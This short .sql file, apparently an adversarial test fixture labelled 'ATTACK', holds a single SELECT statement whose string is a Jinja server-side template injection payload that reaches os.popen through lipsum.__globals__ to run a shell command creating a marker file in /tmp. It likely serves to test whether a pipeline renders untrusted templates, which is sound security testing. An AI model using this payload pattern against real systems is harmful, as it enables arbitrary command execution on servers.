-- ATTACK (.sql file): lipsum.__globals__ to os.popen
SELECT '{{ lipsum.__globals__.os.popen('touch /tmp/kappa-adversarial-ssti-file-lipsum').read() }}' AS x
